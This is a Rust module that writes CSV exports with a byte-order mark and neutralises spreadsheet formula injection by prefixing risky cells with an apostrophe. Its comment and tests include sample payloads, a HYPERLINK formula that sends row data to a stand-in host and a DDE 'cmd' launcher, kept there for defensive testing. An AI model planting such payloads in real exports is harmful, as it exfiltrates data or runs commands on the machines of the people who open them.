//! The CSV files the platform writes (exports, templates, R-17.1): UTF-8 with a byte-order mark, so spreadsheet
//! programs read the Chinese right, and every cell neutralised against formula injection.
//!
//! A cell that a spreadsheet would take for a formula (one starting with `=`, `+`, `-`, `@`, a tab or a carriage
//! return, or their full-width forms, which Excel and WPS also accept) gets a leading apostrophe, as OWASP advises:
//! a subject named `=HYPERLINK("https://x/?"&C2,"详情")` is then shown as text instead of sending the row away when an
//! administrator opens the export.

use crate::error::{ApiError, ApiResult};
use std::borrow::Cow;

/// Characters that make a spreadsheet read a cell as a formula when it starts with them.
const FORMULA_STARTS: &[char] = &['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'];

/// A CSV file being written.
pub struct CsvFile {
    writer: csv::Writer<Vec<u8>>,
}

impl CsvFile {
    pub fn new() -> Self {
        CsvFile { writer: csv::Writer::from_writer(vec![0xEF, 0xBB, 0xBF]) }
    }

    /// Writes one row, each cell neutralised.
    pub fn row<I, S>(&mut self, cells: I) -> ApiResult<()>
    where
        I: IntoIterator<Item = S>,
        S: AsRef<str>,
    {
        let cells: Vec<String> = cells.into_iter().map(|cell| neutralise(cell.as_ref()).into_owned()).collect();
        self.writer.write_record(&cells).map_err(ApiError::internal)
    }

    /// The file's bytes.
    pub fn finish(self) -> ApiResult<Vec<u8>> {
        self.writer.into_inner().map_err(ApiError::internal)
    }
}

impl Default for CsvFile {
    fn default() -> Self {
        CsvFile::new()
    }
}

/// The cell as written: with a leading apostrophe when a spreadsheet would take it for a formula.
pub fn neutralise(cell: &str) -> Cow<'_, str> {
    match cell.chars().next() {
        Some(first) if FORMULA_STARTS.contains(&first) => Cow::Owned(format!("'{cell}")),
        _ => Cow::Borrowed(cell),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn r24_formula_cells_are_written_as_text() {
        for cell in ["=HYPERLINK(\"https://x/?\"&C2,\"详情\")", "+1", "-2+3", "@SUM(A1)", "\tx", "\rx", "＝1+1", "＠x"]
        {
            assert_eq!(neutralise(cell), format!("'{cell}"), "{cell:?}");
        }
        for cell in ["九江甲公司", "2026-01-02", "5000.00", "", "a=b"] {
            assert_eq!(neutralise(cell), cell);
        }
    }

    #[test]
    fn r24_the_file_keeps_its_byte_order_mark_and_quotes() {
        let mut file = CsvFile::new();
        file.row(["=cmd|' /C calc'!A0", "普通"]).unwrap_or_default();
        let bytes = file.finish().unwrap_or_default();
        let text = String::from_utf8(bytes).unwrap_or_default();
        assert!(text.starts_with('\u{feff}'));
        assert!(text.contains("'=cmd|"), "{text}");
    }
}
